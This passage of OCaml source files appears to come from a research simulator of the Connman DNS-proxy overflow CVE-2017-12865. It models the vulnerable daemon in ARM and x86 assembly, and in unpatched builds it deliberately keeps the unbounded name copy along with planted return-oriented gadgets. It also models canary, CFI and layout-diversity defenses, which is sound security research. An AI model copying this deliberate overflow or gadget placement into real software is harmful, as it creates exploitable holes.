        (Frame.geometry t.config.arch)

let handle_response ?(origin = "udp") t wire =
  trace_event t "rx-response"
    [ ("bytes", Telemetry.Trace.I (String.length wire)) ];
  let d =
    if not t.alive then Dropped "daemon not running"
    else if nxdomain_negative t wire then Dropped "nxdomain (negative cached)"
    else
      match prevalidate t wire with
      | Error why -> Dropped why
      | Ok _id ->
          let proc = t.proc in
          let buf = rx_buffer_addr proc in
          let heap_size = proc.Loader.Process.layout.Loader.Layout.heap_size in
          if String.length wire > heap_size then Dropped "oversized datagram"
          else begin
            Mem.write_bytes proc.Loader.Process.mem buf wire;
            arm_sanitizer t ~origin proc buf wire;
            let entry = Loader.Process.symbol proc "parse_response" in
            let ts0 =
              match t.telemetry with
              | Some tr -> Telemetry.Trace.now tr
              | None -> 0
            in
            let r =
              Loader.Process.call proc ~fuel:400_000 ?sanitizer:t.sanitizer
                ?trace:t.telemetry ?profile:t.profiler ~entry
                ~args:[ buf; String.length wire ]
            in
            t.steps <- r.Loader.Process.steps;
            t.icache_hits <- t.icache_hits + r.Loader.Process.icache_hits;
            t.icache_misses <- t.icache_misses + r.Loader.Process.icache_misses;
            trace_event t "parse" ~ts:ts0 ~dur:r.Loader.Process.steps
              [ ("steps", Telemetry.Trace.I r.Loader.Process.steps) ];
            match r.Loader.Process.outcome with
            | O.Halted -> Cached (update_cache t wire)
            | O.Exec _ as reason ->
                t.alive <- false;
                Compromised reason
            | (O.Fault _ | O.Decode_error _ | O.Fuel_exhausted) as reason ->
                t.alive <- false;
                Crashed reason
            | (O.Cfi_violation _ | O.Aborted _) as reason ->
                t.alive <- false;
                Blocked reason
            | (O.Exited _) as reason ->
                t.alive <- false;
                Crashed reason
          end
  in
  disposition_event t d;
  d

let cache_lookup t qname =
  let r = Dns.Cache.lookup t.cache ~now:t.clock (Dns.Name.to_string qname) in
  (match t.telemetry with
  | None -> ()
  | Some _ ->
      trace_event t
        (match r with Some _ -> "cache-hit" | None -> "cache-miss")
        [ ("qname", Telemetry.Trace.S (Dns.Name.to_string qname)) ]);
  r

let cache_find t qname =
  Dns.Cache.find t.cache ~now:t.clock (Dns.Name.to_string qname)

let cache t = t.cache
let cache_stats t = Dns.Cache.stats t.cache
let tick t seconds = t.clock <- t.clock + max 0 seconds

let register_metrics t reg =
  let labels = [ ("daemon", track) ] in
  Telemetry.Metrics.probe reg ~labels ~kind:`Counter
    ~help:"daemon restarts after a crash" "daemon_restarts_total" (fun () ->
      float_of_int t.restarts);
  Telemetry.Metrics.probe reg ~labels ~kind:`Gauge
    ~help:"1 if the daemon is accepting responses" "daemon_alive" (fun () ->
      if t.alive then 1.0 else 0.0);
  Telemetry.Metrics.probe reg ~labels ~kind:`Gauge
    ~help:"instructions retired by the most recent parse"
    "daemon_parse_steps" (fun () -> float_of_int t.steps);
  Telemetry.Metrics.probe reg ~labels ~kind:`Counter
    ~help:"decoded-instruction cache hits across parses"
    "daemon_icache_hits_total" (fun () -> float_of_int t.icache_hits);
  Telemetry.Metrics.probe reg ~labels ~kind:`Counter
    ~help:"decoded-instruction cache misses across parses"
    "daemon_icache_misses_total" (fun () -> float_of_int t.icache_misses);
  (match t.sanitizer with
  | Some oracle -> Sanitizer.Oracle.register_metrics oracle reg
  | None -> ());
  Dns.Cache.register_metrics t.cache reg ~prefix:track
