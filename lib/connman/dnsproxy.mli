(** The Connman DNS-proxy daemon model.

    Mirrors the dnsproxy architecture the paper attacks: local clients
    send queries; the proxy forwards them upstream and remembers the
    transaction; a response is first sanity-checked (the paper: "the DNS
    responses must appear legitimate, otherwise Connman dumps the packet
    as a bad response and never enters the vulnerable portion of code")
    and only then parsed — the parse running as machine code inside the
    simulated process, where CVE-2017-12865 lives.

    A crash (memory fault, illegal instruction, hang) kills the daemon:
    subsequent responses are dropped — the DoS outcome.  An [exec] of a
    shell is remote code execution. *)

type disposition =
  | Cached of int  (** parsed fine; [n] A records entered the cache *)
  | Dropped of string  (** pre-validation rejected the packet *)
  | Crashed of Machine.Outcome.stop_reason  (** daemon died (DoS) *)
  | Compromised of Machine.Outcome.stop_reason  (** attacker code ran *)
  | Blocked of Machine.Outcome.stop_reason
      (** a §IV defense (CFI, canary) stopped the attack; daemon aborted *)

val pp_disposition : Format.formatter -> disposition -> unit

type config = {
  version : Version.t;
  arch : Loader.Arch.t;
  profile : Defense.Profile.t;
  boot_seed : int;  (** per-boot randomness (ASLR, canary) *)
  diversity_seed : int option;  (** per-build layout randomization *)
}

val default_config : config

type t

val create : ?cache_capacity:int -> config -> t
(** [cache_capacity] bounds the daemon's DNS cache (default 256). *)

val fork : ?cache_capacity:int -> t -> t
(** A fresh daemon cloned copy-on-write from this one's current machine
    state ({!Loader.Process.snapshot} + {!Loader.Process.fork}):
    µs-scale spawning for fleet-sized populations versus the full
    [create] boot.  The clone shares the template's boot-time
    randomness (same ASLR draw, same canary) — a fork cohort models
    devices flashed from one firmware image, not independent boots —
    and starts with fresh host-side state: empty pending table and
    cache, no telemetry attached, zero restarts.  [restart] on a clone
    performs a full re-boot from its own config as usual. *)

val fork_diversified :
  ?cache_capacity:int -> t -> diversity_seed:int -> t
(** Like {!fork}, then re-assemble the code image as the variant
    [diversity_seed] selects ({!Loader.Process.reimage} into the
    already-mapped text region): µs-scale spawning of
    behaviorally-equivalent devices whose gadget addresses all differ.
    The clone keeps the template's boot-time randomness (same ASLR
    draw, same canary) — only the code layout varies — and its config
    records the diversity seed, so a later {!restart} re-boots the same
    variant.  Falls back to a full boot when the variant's text does
    not fit the mapped region; deterministic per seed either way. *)

val config : t -> config
val process : t -> Loader.Process.t
(** The booted process image — what an attacker's local [gdb]/[ropper]
    session inspects on their own copy of the device. *)

val alive : t -> bool

val make_query : t -> Dns.Name.t -> Dns.Packet.t
(** Allocate a transaction id and record it as pending (the proxy
    forwarding a client lookup upstream). *)

val handle_response : ?origin:string -> t -> string -> disposition
(** Feed raw wire bytes, as received from the configured DNS server.
    An NXDOMAIN matching a pending question is negatively cached and
    dropped before the machine-level parse.  When a sanitizer oracle is
    attached ({!set_sanitizer}), every wire byte reaching the guest rx
    buffer is tainted with a fresh provenance source labelled [origin]
    (default ["udp"]; {!Core.Device} passes the netsim source address),
    the overflow frame's return slot and redzone are registered from the
    {!Frame} geometry, and the parse runs under [run_sanitized]. *)

val peek_pending : t -> int -> Dns.Packet.question option
(** Is this transaction id outstanding?  (Used by scenarios to attribute
    an observed query to a device.) *)

val cache_lookup : t -> Dns.Name.t -> int option
(** IPv4 (host order) cached for a name, if fresh (TTL not elapsed on the
    daemon's logical clock). *)

val cache_find : t -> Dns.Name.t -> Dns.Cache.outcome
(** Like {!cache_lookup} but distinguishes negative hits from misses. *)

val cache : t -> Dns.Cache.t
(** The daemon's cache, for stats dumps and shard-level inspection. *)

val cache_stats : t -> Dns.Cache.stats

val negative_ttl : int
(** Seconds an NXDOMAIN is negatively cached (SOA-minimum stand-in). *)

val tick : t -> int -> unit
(** Advance the daemon's logical clock by that many seconds (drives TTL
    expiry). *)

val last_steps : t -> int
(** Instructions retired by the most recent machine-level parse. *)

val set_trace : t -> Telemetry.Trace.t option -> unit
(** Attach a telemetry sink: daemon lifecycle events (query issue,
    response receipt, the machine-level parse as a duration span, the
    disposition, restarts) under category ["daemon"] track ["connmand"],
    plus the process memory's fault/mapping events (the current region
    snapshot is re-emitted on attach and after each {!restart}, since
    boot-time [map] events predate the sink). *)

val set_profiler : t -> Telemetry.Profile.t option -> unit
(** Record every pc the parse retires into this profiler. *)

val set_sanitizer : t -> Sanitizer.Oracle.t option -> unit
(** Attach (or detach) the taint sanitizer.  Subsequent responses parse
    under [run_sanitized] with per-datagram taint sources; outcomes and
    dispositions are identical to an unsanitized daemon (the sanitizer
    is an observer), but the oracle accumulates reports.  The attached
    trace sink, if any, is shared with the oracle (["sanitizer"]
    category events). *)

val sanitizer : t -> Sanitizer.Oracle.t option

val register_metrics : t -> Telemetry.Metrics.t -> unit
(** Register [daemon_*] probes (labelled [{daemon="connmand"}]) and the
    DNS cache's [dns_cache_*] probes into the registry. *)

val restart : t -> unit
(** Reboot the daemon after a crash (fresh ASLR draw derived from the
    boot seed and restart count, as a supervisor restart would give). *)
