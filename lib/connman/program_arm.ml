open Isa_arm
open Isa_arm.Insn

let entry = "parse_response"
let i op = Asm.I (al op)

(* --- parse_response(r0 buf, r1 len) ----------------------------------
   Frame (offsets from the name buffer, see Frame.arm):
     [fp-0x418] name_len   [fp-0x410 .. fp-0x11] name[1024]
     [fp-0x10] ptr1  [fp-0xC] ptr2  [fp-8] canary (optional)
     saved {r4,r5,r6,r7,fp,lr} at [fp .. fp+0x14]                       *)
let parse_response ~canary =
  [
    Asm.Label "parse_response";
    i (Push [ R4; R5; R6; R7; R11; LR ]);
    i (Mov (R11, Reg SP));
    i (Sub (SP, SP, Imm 0x400));
    i (Sub (SP, SP, Imm 0x18));
  ]
  @ (if canary then
       [
         Asm.Ldr_sym (R3, "pr.lit_canary");
         i (Ldr (R3, R3, 0));
         i (Str (R3, R11, -8));
       ]
     else [])
  @ [
      (* zero name_len, ptr1, ptr2 *)
      i (Mov (R3, Imm 0));
      i (Str (R3, R11, -0x418));
      i (Str (R3, R11, -0x10));
      i (Str (R3, R11, -0xC));
      (* r4 = msg base, r2 = cursor past the header *)
      i (Mov (R4, Reg R0));
      i (Add (R2, R0, Imm 12));
      (* skip the question name *)
      Asm.Label "pr.skip_q";
      i (Ldrb (R3, R2, 0));
      i (Cmp (R3, Imm 0));
      Asm.B_sym (EQ, "pr.q_end");
      i (Cmp (R3, Imm 0xC0));
      Asm.B_sym (CS, "pr.q_ptr");
      i (Add (R2, R2, Reg R3));
      i (Add (R2, R2, Imm 1));
      Asm.B_sym (AL, "pr.skip_q");
      Asm.Label "pr.q_ptr";
      i (Add (R2, R2, Imm 2));
      Asm.B_sym (AL, "pr.q_done");
      Asm.Label "pr.q_end";
      i (Add (R2, R2, Imm 1));
      Asm.Label "pr.q_done";
      i (Add (R2, R2, Imm 4));
      (* get_name(msg, p, name, &name_len) *)
      i (Mov (R0, Reg R4));
      i (Mov (R1, Reg R2));
      i (Sub (R2, R11, Imm 0x410));
      (* 0x418 is not an encodable modified-immediate: split it *)
      i (Sub (R3, R11, Imm 0x400));
      i (Sub (R3, R3, Imm 0x18));
      Asm.Bl_sym "get_name";
      i (Cmp (R0, Imm 0));
      Asm.B_sym (NE, "pr.out");
      (* parse_rr(&ptr1) *)
      i (Sub (R0, R11, Imm 0x10));
      Asm.Bl_sym "parse_rr";
      (* cache_store(name, name_len) *)
      i (Sub (R0, R11, Imm 0x410));
      i (Ldr (R1, R11, -0x418));
      Asm.Bl_sym "cache_store";
      Asm.Label "pr.out";
    ]
  @ (if canary then
       [
         Asm.Ldr_sym (R3, "pr.lit_canary");
         i (Ldr (R3, R3, 0));
         i (Ldr (R2, R11, -8));
         i (Cmp (R2, Reg R3));
         Asm.B_sym (NE, "pr.smashed");
       ]
     else [])
  @ [
      i (Mov (SP, Reg R11));
      i (Pop [ R4; R5; R6; R7; R11; PC ]);
    ]
  @ (if canary then
       [ Asm.Label "pr.smashed"; Asm.Bl_sym "__stack_chk_fail@plt" ]
     else [])
  @
  if canary then [ Asm.Label "pr.lit_canary"; Asm.Word_sym "__canary" ] else []

(* --- get_name(r0 msg, r1 p, r2 name, r3 &name_len) -------------------
   The CVE site (Listing 1), with the 1.35 bound in patched builds. *)
let get_name ~patched =
  [
    Asm.Label "get_name";
    i (Push [ R4; R5; R6; R7; LR ]);
    i (Mov (R4, Reg R1));
    i (Mov (R5, Reg R2));
    i (Mov (R6, Reg R3));
    i (Mov (R7, Reg R0));
    Asm.Label "gn.loop";
    i (Ldrb (R3, R4, 0));
    i (Cmp (R3, Imm 0));
    Asm.B_sym (EQ, "gn.done");
    i (Cmp (R3, Imm 0xC0));
    Asm.B_sym (CS, "gn.pointer");
    i (Ldr (R1, R6, 0));
  ]
  @ (if patched then
       [
         i (Add (R0, R1, Reg R3));
         i (Add (R0, R0, Imm 2));
         i (Cmp (R0, Imm 1024));
         Asm.B_sym (GT, "gn.fail");
       ]
     else [])
  @ [
      (* Listing 1: store the length byte at name[nl], bump nl *)
      i (Add (R0, R5, Reg R1));
      i (Strb (R3, R0, 0));
      i (Add (R1, R1, Imm 1));
      i (Str (R1, R6, 0));
      (* Listing 1: memcpy of label_len+1 bytes from p+1 *)
      i (Add (R0, R0, Imm 1));
      i (Add (R1, R4, Imm 1));
      i (Add (R2, R3, Imm 1));
      Asm.Bl_sym "memcpy@plt";
      (* advance nl and the cursor by label_len (+1 for the cursor) *)
      i (Ldrb (R3, R4, 0));
      i (Ldr (R1, R6, 0));
      i (Add (R1, R1, Reg R3));
      i (Str (R1, R6, 0));
      i (Add (R4, R4, Reg R3));
      i (Add (R4, R4, Imm 1));
      Asm.B_sym (AL, "gn.loop");
      Asm.Label "gn.pointer";
      i (Sub (R3, R3, Imm 0xC0));
      i (Mov (R3, Lsl (R3, 8)));
      i (Ldrb (R1, R4, 1));
      i (Add (R3, R3, Reg R1));
      i (Add (R4, R7, Reg R3));
      Asm.B_sym (AL, "gn.loop");
      Asm.Label "gn.fail";
      i (Mvn (R0, Imm 0));
      i (Pop [ R4; R5; R6; R7; PC ]);
      Asm.Label "gn.done";
      i (Mov (R0, Imm 0));
      i (Pop [ R4; R5; R6; R7; PC ]);
    ]

(* parse_rr(r0 = &ptr1): validates two record bookkeeping pointers,
   dereferencing them when non-NULL — so an overflow that scribbles
   non-NULL garbage there faults here, before any hijack (§III-A2's
   "memory locations Connman expects to be NULL"). *)
let parse_rr =
  [
    Asm.Label "parse_rr";
    i (Ldr (R3, R0, 0));
    i (Cmp (R3, Imm 0));
    Asm.I { cond = NE; op = Ldr (R3, R3, 0) };
    i (Mvn (R3, Reg R3));
    i (Ldr (R3, R0, 4));
    i (Cmp (R3, Imm 0));
    Asm.I { cond = NE; op = Ldr (R3, R3, 0) };
    i (Mvn (R3, Reg R3));
    i (Mov (R0, Imm 0));
    i (Bx LR);
  ]

(* cache_store(r0 name, r1 len): prefix-copy into the .bss cache slot. *)
let cache_store =
  [
    Asm.Label "cache_store";
    i (Push [ R4; LR ]);
    i (Mov (R1, Reg R0));
    Asm.Ldr_sym (R0, "cs.lit_bss");
    i (Add (R0, R0, Imm 0x200));
    i (Mov (R2, Imm 16));
    Asm.Bl_sym "memcpy@plt";
    i (Pop [ R4; PC ]);
    Asm.Label "cs.lit_bss";
    Asm.Word_sym "__bss_start";
  ]

(* spawn_helper(): the execlp@plt reference (DHCP client helper). *)
let spawn_helper =
  [
    Asm.Label "spawn_helper";
    i (Push [ R4; LR ]);
    Asm.Ldr_sym (R0, "sh.lit_dhclient");
    i (Mov (R1, Imm 0));
    Asm.Bl_sym "execlp@plt";
    i (Pop [ R4; PC ]);
    Asm.Label "sh.lit_dhclient";
    Asm.Word_sym "str_dhclient";
  ]

(* event_dispatch: restores a full dispatch context — its epilogue is the
   §III-B2 gadget `pop {r0, r1, r2, r3, r5, r6, r7, pc}`. *)
let event_dispatch =
  [
    Asm.Label "event_dispatch";
    i (Push [ R0; R1; R2; R3; R5; R6; R7; LR ]);
    i (Mov (R0, Imm 0));
    i (Pop [ R0; R1; R2; R3; R5; R6; R7; PC ]);
  ]

(* call_handler(r3 = handler): indirect dispatch through blx — the word
   after the blx is `pop {r4, pc}`, which is what makes the §III-C2
   memcpy chain resumable. *)
let call_handler =
  [
    Asm.Label "call_handler";
    i (Push [ R4; LR ]);
    i (Blx_r R3);
    i (Pop [ R4; PC ]);
  ]

let checksum =
  [
    Asm.Label "checksum";
    i (Push [ R4; LR ]);
    i (Mov (R2, Reg R0));
    i (Mov (R0, Imm 0));
    Asm.Label "ck.loop";
    i (Ldrb (R3, R2, 0));
    i (Cmp (R3, Imm 0));
    Asm.B_sym (EQ, "ck.done");
    i (Add (R0, R0, Reg R3));
    i (Add (R2, R2, Imm 1));
    Asm.B_sym (AL, "ck.loop");
    Asm.Label "ck.done";
    i (Pop [ R4; PC ]);
  ]

let rodata ~version =
  [
    Asm.Align 4;
    Asm.Label "str_version";
    Asm.Bytes (Printf.sprintf "connman %s\x00" (Version.to_string version));
    Asm.Label "str_dhclient";
    Asm.Bytes "/sbin/dhclient\x00";
    Asm.Label "str_lookup";
    Asm.Bytes "ipv4.connman.net\x00";
    Asm.Label "str_resolv";
    Asm.Bytes "/etc/resolv.conf\x00";
    Asm.Label "str_dbus";
    Asm.Bytes "net.connman\x00";
    Asm.Align 4;
  ]

let chunks ~version ~profile =
  let patched = not (Version.vulnerable version) in
  let canary = profile.Defense.Profile.canary in
  [
    ("parse_response", parse_response ~canary);
    ("get_name", get_name ~patched);
    ("parse_rr", parse_rr);
    ("cache_store", cache_store);
    ("spawn_helper", spawn_helper);
    ("event_dispatch", event_dispatch);
    ("call_handler", call_handler);
    ("checksum", checksum);
    ("rodata", rodata ~version);
  ]

(* Distinct releases lay their functions out differently (real binaries
   shift with every compile), so gadget addresses are version-specific:
   an exploit built against 1.34 does not transfer to 1.31 untouched. *)
let rotate_by_version version chunks =
  let n = List.length chunks in
  let k = version.Version.minor mod n in
  let rec split i acc = function
    | rest when i = 0 -> rest @ List.rev acc
    | x :: rest -> split (i - 1) (x :: acc) rest
    | [] -> List.rev acc
  in
  split k [] chunks

let spec ~version ~profile ?diversity_seed () =
  let chunks = rotate_by_version version (chunks ~version ~profile) in
  let program =
    match diversity_seed with
    | None -> List.concat_map snd chunks
    | Some seed ->
        (* Compile-time diversity (§IV): shuffle function order, insert
           random NOP padding, and apply equivalent-instruction
           rewrites, so every code address moves between builds. *)
        fst (Diversity.Variant.arm ~seed chunks)
  in
  {
    Loader.Process.name = Printf.sprintf "connmand-%s" (Version.to_string version);
    code = Loader.Process.Arm_code program;
    imports =
      [ "memcpy"; "execlp"; "exit"; "abort"; "__stack_chk_fail"; "__strcpy_chk" ];
    bss_size = 0x2000;
  }

let variant_plan ~version ~profile ~seed =
  snd
    (Diversity.Variant.arm ~seed
       (rotate_by_version version (chunks ~version ~profile)))
