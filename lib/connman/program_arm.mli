(** The Connman DNS-proxy parse path, compiled for ARMv7.

    Same structure as {!Program_x86} with the ARM-specific properties the
    paper leans on:
    - [parse_response] returns via [pop {r4-r7, fp, pc}];
    - [parse_rr] dereferences two frame-resident pointers when they are
      non-NULL — the §III-A2 "locations Connman expects to be NULL";
    - [event_dispatch] carries the §III-B2 gadget
      [pop {r0, r1, r2, r3, r5, r6, r7, pc}];
    - [call_handler] carries [blx r3] immediately followed by
      [pop {r4, pc}] — the §III-C2 trampoline that lets a stack chain
      survive ARM's branch-link calling convention. *)

val spec :
  version:Version.t ->
  profile:Defense.Profile.t ->
  ?diversity_seed:int ->
  unit ->
  Loader.Process.spec

val variant_plan :
  version:Version.t ->
  profile:Defense.Profile.t ->
  seed:int ->
  Diversity.Variant.plan
(** The diversification stats of the variant [spec ~diversity_seed:seed]
    builds. *)

val entry : string
