open Isa_x86
open Isa_x86.Insn

let entry = "parse_response"

let ebp_off d = Mem { base = Some EBP; disp = d }
let at r = Mem { base = Some r; disp = 0 }

(* --- parse_response(buf, len) ---------------------------------------
   Frame (offsets from the name buffer, see Frame.x86):
     [ebp-0x418] name_len          [ebp-0x410..ebp-0x11] name[1024]
     [ebp-0x10] ptr1  [ebp-0xC] ptr2  [ebp-4] canary (optional)        *)
let parse_response ~canary =
  [
    Asm.Label "parse_response";
    Asm.I (Push_r EBP);
    Asm.I (Mov (Reg EBP, Reg ESP));
    Asm.I (Sub_i (Reg ESP, 0x418));
  ]
  @ (if canary then
       [
         Asm.Mov_ri_sym (EAX, "__canary");
         Asm.I (Mov (Reg EAX, at EAX));
         Asm.I (Mov (ebp_off (-4), Reg EAX));
       ]
     else [])
  @ [
      (* zero name_len and the pointer locals *)
      Asm.I (Xor (Reg EAX, Reg EAX));
      Asm.I (Mov (ebp_off (-0x418), Reg EAX));
      Asm.I (Mov (ebp_off (-0x10), Reg EAX));
      Asm.I (Mov (ebp_off (-0xC), Reg EAX));
      (* cursor = buf + 12 (skip the DNS header) *)
      Asm.I (Mov (Reg EAX, ebp_off 8));
      Asm.I (Add_i (Reg EAX, 12));
      (* skip the question name (labels or a compression pointer) *)
      Asm.Label "pr.skip_q";
      Asm.I (Movzx_b (ECX, at EAX));
      Asm.I (Cmp_i (Reg ECX, 0));
      Asm.Jcc (E, "pr.q_end");
      Asm.I (Cmp_i (Reg ECX, 0xC0));
      Asm.Jcc (AE, "pr.q_ptr");
      Asm.I (Add (Reg EAX, Reg ECX));
      Asm.I (Inc_r EAX);
      Asm.Jmp "pr.skip_q";
      Asm.Label "pr.q_ptr";
      Asm.I (Add_i (Reg EAX, 2));
      Asm.Jmp "pr.q_done";
      Asm.Label "pr.q_end";
      Asm.I (Inc_r EAX);
      Asm.Label "pr.q_done";
      (* skip qtype + qclass → eax points at the answer's owner name *)
      Asm.I (Add_i (Reg EAX, 4));
      (* get_name(buf, p, name, &name_len) *)
      Asm.I (Lea (ECX, { base = Some EBP; disp = -0x418 }));
      Asm.I (Push_r ECX);
      Asm.I (Lea (ECX, { base = Some EBP; disp = -0x410 }));
      Asm.I (Push_r ECX);
      Asm.I (Push_r EAX);
      Asm.I (Push_m { base = Some EBP; disp = 8 });
      Asm.Call "get_name";
      Asm.I (Add_i (Reg ESP, 16));
      Asm.I (Cmp_i (Reg EAX, 0));
      Asm.Jcc (NE, "pr.out");
      (* parse_rr(&ptr1) *)
      Asm.I (Lea (ECX, { base = Some EBP; disp = -0x10 }));
      Asm.I (Push_r ECX);
      Asm.Call "parse_rr";
      Asm.I (Add_i (Reg ESP, 4));
      (* cache_store(name, name_len) *)
      Asm.I (Push_m { base = Some EBP; disp = -0x418 });
      Asm.I (Lea (ECX, { base = Some EBP; disp = -0x410 }));
      Asm.I (Push_r ECX);
      Asm.Call "cache_store";
      Asm.I (Add_i (Reg ESP, 8));
      Asm.Label "pr.out";
    ]
  @ (if canary then
       [
         Asm.I (Mov (Reg EAX, ebp_off (-4)));
         Asm.Mov_ri_sym (ECX, "__canary");
         Asm.I (Mov (Reg ECX, at ECX));
         Asm.I (Cmp (Reg EAX, Reg ECX));
         Asm.Jcc (NE, "pr.smashed");
       ]
     else [])
  @ [ Asm.I Leave; Asm.I Ret ]
  @
  if canary then [ Asm.Label "pr.smashed"; Asm.Call "__stack_chk_fail@plt" ]
  else []

(* --- get_name(msg, p, name, name_len) --------------------------------
   The CVE site.  Registers: esi cursor, edi name, ebx &name_len.  The
   Listing-1 copy is delegated to libc memcpy through the PLT, exactly as
   in dnsproxy.c. *)
let get_name ~patched =
  [
    Asm.Label "get_name";
    Asm.I (Push_r EBP);
    Asm.I (Mov (Reg EBP, Reg ESP));
    Asm.I (Push_r EBX);
    Asm.I (Push_r EDI);
    Asm.I (Push_r ESI);
    Asm.I (Mov (Reg ESI, ebp_off 12));
    Asm.I (Mov (Reg EDI, ebp_off 16));
    Asm.I (Mov (Reg EBX, ebp_off 20));
    Asm.Label "gn.loop";
    Asm.I (Movzx_b (ECX, at ESI));
    Asm.I (Cmp_i (Reg ECX, 0));
    Asm.Jcc (E, "gn.done");
    Asm.I (Cmp_i (Reg ECX, 0xC0));
    Asm.Jcc (AE, "gn.pointer");
    Asm.I (Mov (Reg EDX, at EBX));
  ]
  @ (if patched then
       [
         (* The 1.35 fix: bail out when nl + label_len + 2 > sizeof(name). *)
         Asm.I (Mov (Reg EAX, Reg EDX));
         Asm.I (Add (Reg EAX, Reg ECX));
         Asm.I (Add_i (Reg EAX, 2));
         Asm.I (Cmp_i (Reg EAX, 1024));
         Asm.Jcc (G, "gn.fail");
       ]
     else [])
  @ [
      (* Listing 1: store the length byte at name[nl], bump nl *)
      Asm.I (Mov (Reg EAX, Reg EDI));
      Asm.I (Add (Reg EAX, Reg EDX));
      Asm.I (Mov_b (at EAX, Reg ECX));
      Asm.I (Inc_r EAX);
      Asm.I (Inc_r EDX);
      Asm.I (Mov (at EBX, Reg EDX));
      (* Listing 1: memcpy of label_len+1 bytes from p+1 *)
      Asm.I (Mov (Reg EDX, Reg ECX));
      Asm.I (Inc_r EDX);
      Asm.I (Push_r EDX);
      Asm.I (Mov (Reg EDX, Reg ESI));
      Asm.I (Inc_r EDX);
      Asm.I (Push_r EDX);
      Asm.I (Push_r EAX);
      Asm.Call "memcpy@plt";
      Asm.I (Add_i (Reg ESP, 12));
      (* advance nl and the cursor by label_len (+1 for the cursor) *)
      Asm.I (Movzx_b (ECX, at ESI));
      Asm.I (Mov (Reg EDX, at EBX));
      Asm.I (Add (Reg EDX, Reg ECX));
      Asm.I (Mov (at EBX, Reg EDX));
      Asm.I (Add (Reg ESI, Reg ECX));
      Asm.I (Inc_r ESI);
      Asm.Jmp "gn.loop";
      Asm.Label "gn.pointer";
      (* p = msg + (((len & 0x3F) << 8) | p[1]) *)
      Asm.I (Sub_i (Reg ECX, 0xC0));
      Asm.I (Shl_i (ECX, 8));
      Asm.I (Movzx_b (EDX, Mem { base = Some ESI; disp = 1 }));
      Asm.I (Add (Reg ECX, Reg EDX));
      Asm.I (Mov (Reg ESI, ebp_off 8));
      Asm.I (Add (Reg ESI, Reg ECX));
      Asm.Jmp "gn.loop";
      Asm.Label "gn.fail";
      Asm.I (Mov_ri (EAX, 0xFFFFFFFF));
      Asm.Jmp "gn.ret";
      Asm.Label "gn.done";
      Asm.I (Xor (Reg EAX, Reg EAX));
      Asm.Label "gn.ret";
      (* Epilogue: a natural pop/pop/pop/pop/ret run — the raw material the
         §III-C1 gadget hunt finds (a pppr gadget starts at the second
         pop). *)
      Asm.I (Pop_r ESI);
      Asm.I (Pop_r EDI);
      Asm.I (Pop_r EBX);
      Asm.I (Pop_r EBP);
      Asm.I Ret;
    ]

(* x86 parse_rr: unlike the ARM build, its record bookkeeping does not
   dereference the frame locals — matching the paper, which hit the
   NULL-check obstacle only on ARM. *)
let parse_rr =
  [
    Asm.Label "parse_rr";
    Asm.I (Mov (Reg EAX, Mem { base = Some ESP; disp = 4 }));
    Asm.I (Mov (Reg EAX, at EAX));
    Asm.I (Xor (Reg EAX, Reg EAX));
    Asm.I Ret;
  ]

(* cache_store(name, len): copy a prefix of the expanded name into the
   .bss-resident cache slot (keeps memcpy@plt hot and gives .bss a
   realistic role). *)
let cache_store =
  [
    Asm.Label "cache_store";
    Asm.I (Push_r EBP);
    Asm.I (Mov (Reg EBP, Reg ESP));
    Asm.I (Push_i 16);
    Asm.I (Push_m { base = Some EBP; disp = 8 });
    Asm.Mov_ri_sym (EAX, "__bss_start");
    Asm.I (Add_i (Reg EAX, 0x200));
    Asm.I (Push_r EAX);
    Asm.Call "memcpy@plt";
    Asm.I (Add_i (Reg ESP, 12));
    Asm.I (Pop_r EBP);
    Asm.I Ret;
  ]

(* spawn_helper(): execs the DHCP client helper.  Never called on the
   parse path — it exists so the binary carries an execlp@plt reference,
   as the real daemon does for its helper processes (§III-B2 invokes it). *)
let spawn_helper =
  [
    Asm.Label "spawn_helper";
    Asm.I (Push_i 0);
    Asm.Push_sym "str_dhclient";
    Asm.Call "execlp@plt";
    Asm.I (Add_i (Reg ESP, 8));
    Asm.I Ret;
  ]

(* Auxiliary routines: realistic bulk with conventional multi-pop
   epilogues. *)
let checksum =
  [
    Asm.Label "checksum";
    Asm.I (Push_r EBP);
    Asm.I (Mov (Reg EBP, Reg ESP));
    Asm.I (Push_r ESI);
    Asm.I (Push_r EDI);
    Asm.I (Mov (Reg ESI, ebp_off 8));
    Asm.I (Mov (Reg ECX, ebp_off 12));
    Asm.I (Xor (Reg EAX, Reg EAX));
    Asm.Label "ck.loop";
    Asm.I (Cmp_i (Reg ECX, 0));
    Asm.Jcc (E, "ck.done");
    Asm.I (Movzx_b (EDX, at ESI));
    Asm.I (Add (Reg EAX, Reg EDX));
    Asm.I (Inc_r ESI);
    Asm.I (Dec_r ECX);
    Asm.Jmp "ck.loop";
    Asm.Label "ck.done";
    Asm.I (Pop_r EDI);
    Asm.I (Pop_r ESI);
    Asm.I (Pop_r EBP);
    Asm.I Ret;
  ]

let log_event =
  [
    Asm.Label "log_event";
    Asm.I (Push_r EBX);
    Asm.I (Push_r ESI);
    Asm.I (Push_r EDI);
    Asm.I (Mov (Reg EAX, Mem { base = Some ESP; disp = 16 }));
    Asm.I (Pop_r EDI);
    Asm.I (Pop_r ESI);
    Asm.I (Pop_r EBX);
    Asm.I Ret;
  ]

(* Read-only strings; inline in .text like a real binary's .rodata, they
   feed the §III-C1 "-memstr" single-character hunt ('/', 'b', 'i', 'n',
   's', 'h' all occur). *)
let rodata ~version =
  [
    Asm.Align 4;
    Asm.Label "str_version";
    Asm.Bytes (Printf.sprintf "connman %s\x00" (Version.to_string version));
    Asm.Label "str_dhclient";
    Asm.Bytes "/sbin/dhclient\x00";
    Asm.Label "str_lookup";
    Asm.Bytes "ipv4.connman.net\x00";
    Asm.Label "str_resolv";
    Asm.Bytes "/etc/resolv.conf\x00";
    Asm.Label "str_dbus";
    Asm.Bytes "net.connman\x00";
  ]

let chunks ~version ~profile =
  let patched = not (Version.vulnerable version) in
  let canary = profile.Defense.Profile.canary in
  [
    ("parse_response", parse_response ~canary);
    ("get_name", get_name ~patched);
    ("parse_rr", parse_rr);
    ("cache_store", cache_store);
    ("spawn_helper", spawn_helper);
    ("checksum", checksum);
    ("log_event", log_event);
    ("rodata", rodata ~version);
  ]

(* Distinct releases lay their functions out differently (real binaries
   shift with every compile), so gadget addresses are version-specific:
   an exploit built against 1.34 does not transfer to 1.31 untouched. *)
let rotate_by_version version chunks =
  let n = List.length chunks in
  let k = version.Version.minor mod n in
  let rec split i acc = function
    | rest when i = 0 -> rest @ List.rev acc
    | x :: rest -> split (i - 1) (x :: acc) rest
    | [] -> List.rev acc
  in
